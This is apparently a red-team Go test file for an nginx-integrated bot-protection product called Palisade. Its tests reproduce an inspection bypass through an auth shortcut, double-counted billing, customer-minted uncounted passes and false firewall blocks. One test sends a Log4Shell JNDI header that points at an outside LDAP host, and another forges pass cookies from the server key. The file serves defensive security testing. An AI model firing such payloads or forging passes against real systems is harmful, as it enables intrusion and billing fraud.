//go:build redteam

package redteam21

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/palisadehq/palisade/internal/engine"
)

// TestFinding_GrantShortcutSkipsFullInspection: the shortcut 58fe984 put in
// both auth locations ("if ($palisade_action = "grant") { return 204; }")
// takes a grant of /_palisade/auth-static — which passes Palisade ONLY the
// grant cache's key headers — as the verdict for the request after an
// internal redirect into a location that palisade.conf inspects in full.
// A site's everyday server-wide "error_page 404 /index.php" (its
// application renders "not found") is such a redirect: a missing file
// of a palisade-static.conf location, requested with a Log4Shell payload in
// X-Api-Version and the header a tenant's own deny rule names (X-Debug),
// reaches the application with both headers. Control: the same request to
// a page is refused (403), and with the shortcut deleted (the snippets
// before 58fe984) the application never sees it.
func TestFinding_GrantShortcutSkipsFullInspection(t *testing.T) {
	payload := "X-Api-Version: ${jndi:ldap://203.0.113.1/a}\r\nX-Debug: 1\r\n"
	run := func(edit func(string) string) (pageCode, fileCode int, fileBody string, seen []string) {
		r := newPassRig(t)
		w := r.pal.Website(t, "rules.example.com", remoteVisitors(engine.Settings{Rules: []engine.Rule{
			{Name: "No debug", Action: "deny", Conditions: []engine.Condition{{Field: "header", Header: "X-Debug", Op: "contains", Value: "1"}}}}}))
		port := freePort(t)
		addr := r.start(t, port, passSite(port, "rules.example.com", w.ServerKey, r.root, r.appURL), edit)
		pageCode, _, _ = send(t, addr, "GET", "rules.example.com", "/shop", browserHeaders(chromeUA)+payload)
		fileCode, fileBody, _ = send(t, addr, "GET", "rules.example.com", "/no-such-file.css", browserHeaders(chromeUA)+payload)
		return pageCode, fileCode, fileBody, r.app.got()
	}
	// Control: the snippets without the shortcut.
	if page, file, body, seen := run(withoutShortcut); page != 403 || len(seen) != 0 {
		t.Fatalf("control (no shortcut): page %d, missing file %d %.60q, the application saw %q; want 403 and nothing seen", page, file, body, seen)
	}
	page, file, body, seen := run(nil)
	if page != 403 {
		t.Errorf("the page with the payload: %d, want 403", page)
	}
	if len(seen) != 0 {
		t.Errorf("a missing file with a Log4Shell header and the header of a deny rule: %d %.60q, and the application received %q (the shortcut took the static location's key-headers-only grant for the redirect to /index.php)", file, body, seen)
	}
}

// TestFinding_AssetPassDoubleCounts: a file served on a pass is counted
// twice when nginx redirects the request internally: the shortcut does not
// fire after a pass (auth_request_set leaves $palisade_action empty: no
// upstream answered), so each access phase of the same request checks the
// pass again and reports it again, or asks Palisade, which counts it again.
// The first time without a pass the same requests count once (the
// shortcut). Two everyday cases: an image falling back to a placeholder
// (try_files $uri /img/placeholder.png, between two palisade-static.conf
// locations) and a missing file answered by the site's 404 page
// (error_page 404 /index.php). The same for a grant from the cache (no
// pass) followed by the placeholder redirect: the shortcut's subrequest is
// logged with the report condition ($palisade_cache_hit, a map: nginx
// caches its value for the request) of the first one — that double count
// is older (b48869d: without the shortcut the second subrequest was a
// cache HIT as well), the shortcut did not end it. Plans are priced by
// requests: a visitor's 404s and placeholders are billed double.
func TestFinding_AssetPassDoubleCounts(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "count.example.com", remoteVisitors(engine.Settings{}))
	port := freePort(t)
	addr := r.start(t, port, passSite(port, "count.example.com", w.ServerKey, r.root, r.appURL), nil)
	bh := browserHeaders(chromeUA)
	measure := func(path, cookie string) (int64, int, string) {
		t.Helper()
		r.settle()
		before := r.counted(t, "count.example.com")
		code, body, _ := send(t, addr, "GET", "count.example.com", path, bh+cookie)
		r.settle()
		return r.counted(t, "count.example.com") - before, code, body
	}
	// Without a pass: once each (the page is the first visit: no pass yet).
	for _, p := range []string{"/img/missing.jpg", "/missing.css"} {
		if n, code, body := measure(p, ""); n != 1 {
			t.Errorf("control: %s without a pass: %d %.40q counted %d times, want 1", p, code, body, n)
		}
	}
	// Again within the grant cache's lifetime: from the cache.
	for _, p := range []string{"/img/missing.jpg", "/missing.css"} {
		if n, code, body := measure(p, ""); n != 1 {
			t.Errorf("%s without a pass, from the grant cache: %d %.40q counted %d times, want 1", p, code, body, n)
		}
	}
	pass := getPass(t, addr, "count.example.com")
	for _, p := range []string{"/img/logo.jpg", "/img/missing.jpg", "/missing.css"} {
		n, code, body := measure(p, "Cookie: palisade_pass="+pass+"\r\n")
		if n != 1 {
			t.Errorf("%s with a pass: %d %.40q counted %d times, want 1 (one request)", p, code, body, n)
		}
	}
}

// TestFinding_CustomerMintsUncountedPasses: the pass's only secret is the
// website's server key, which the customer and its partner are shown
// (dashboard, GET /website/{domain}); palisade-upstream.conf's map takes
// any [a-z_]{1,40} as the reason and any 12-digit expiry. The customer's
// own application (PHP behind the same nginx) can therefore set, on each
// page it answers, palisade_pass for the visitor's address and user agent
// with a reason that is no category and an expiry years ahead: every file
// of the site's palisade-static.conf locations is then served without a
// verdict, and its reuse report is skipped by the reuse listener (unknown
// reason): not counted in the website's usage, which the plan is priced on.
// Here: 10 files (and a visitor Palisade denies outright, sqlmap, whose
// user agent the application minted for), 0 counted.
func TestFinding_CustomerMintsUncountedPasses(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "mint.example.com", remoteVisitors(engine.Settings{}))
	port := freePort(t)
	addr := r.start(t, port, passSite(port, "mint.example.com", w.ServerKey, r.root, r.appURL), nil)
	exp := strconv.FormatInt(time.Now().Add(365*24*time.Hour).Unix(), 10)
	sqlmapUA := "sqlmap/1.7.2#stable (https://sqlmap.org)"
	if code, _, _ := send(t, addr, "GET", "mint.example.com", "/page.css", sqlmapHeaders); code != 403 {
		t.Fatalf("control: sqlmap without a pass: %d, want 403", code)
	}
	r.settle()
	before, statsBefore := r.counted(t, "mint.example.com"), r.reports.Stats()
	const n = 10
	for i := 0; i < n/2; i++ {
		for _, v := range []struct{ ua, headers string }{{chromeUA, browserHeaders(chromeUA)}, {sqlmapUA, sqlmapHeaders}} {
			pass := mintPass(w.ServerKey, exp, "x", "127.0.0.1", "mint.example.com", v.ua)
			if code, body, _ := send(t, addr, "GET", "mint.example.com", fmt.Sprintf("/page.css?%d", i), v.headers+"Cookie: palisade_pass="+pass+"\r\n"); code != 200 {
				t.Fatalf("a file with a minted pass (%s): %d %.60q", strings.Fields(v.ua)[0], code, body)
			}
		}
	}
	r.settle()
	got, s := r.counted(t, "mint.example.com")-before, r.reports.Stats()
	if got != n {
		t.Errorf("%d files served on passes the site minted itself (reason \"x\", expiring %s), %d counted in the website's usage; reuse listener: %d lines skipped as unknown reason", n, time.Unix(mustInt(exp), 0).UTC().Format("2006-01-02"), got, s.UnknownReason-statsBefore.UnknownReason)
	}
}

func mustInt(s string) int64 {
	n, _ := strconv.ParseInt(s, 10, 64)
	return n
}

// TestFinding_AssetPassTripsTheFirewall: the pass cookie rides along on
// every later request of the browser, pages included, where the website
// firewall reads cookies. Its hash is base64url: '-' and '_' are in its
// alphabet, and a hash with "--" followed later by another '-' trips the
// Core Rule Set's SQL comment detection at paranoia 2: the browser's next
// page is denied (and recorded as an attack) until the pass expires. About
// 1 pass in 1,400 has that shape (simulated over random hashes), and every
// granted page hands out a new one. Here: a pass exactly as Palisade hands
// it out (the website's key, 127.0.0.1, Chrome, reason humans) for the
// first expiry in the next two days whose hash has that shape; at
// paranoia 1 the same cookie passes.
func TestFinding_AssetPassTripsTheFirewall(t *testing.T) {
	r := newPassRig(t)
	w := r.pal.Website(t, "pl2.example.com", remoteVisitors(engine.Settings{WAF: engine.WAFSettings{Paranoia: 2}}))
	port := freePort(t)
	addr := r.start(t, port, passSite(port, "pl2.example.com", w.ServerKey, r.root, r.appURL), nil)
	getPass(t, addr, "pl2.example.com") // a pass is handed out on this website
	comment := regexp.MustCompile(`--[^-]*-`)
	now := time.Now().Unix()
	pass := ""
	for e := now + 60; e < now+2*86400 && pass == ""; e++ {
		if p := mintPass(w.ServerKey, strconv.FormatInt(e, 10), "humans", "127.0.0.1", "pl2.example.com", chromeUA); comment.MatchString(strings.SplitN(p, ".", 2)[0]) {
			pass = p
		}
	}
	if pass == "" {
		t.Skip("no hash of that shape in two days of expiries")
	}
	code, body, _ := send(t, addr, "GET", "pl2.example.com", "/shop", browserHeaders(chromeUA)+"Cookie: palisade_pass="+pass+"\r\n")
	if code != 200 {
		t.Errorf("a browser's next page with the pass %s Palisade hands out: %d %.60q, want 200", pass, code, body)
	}
}
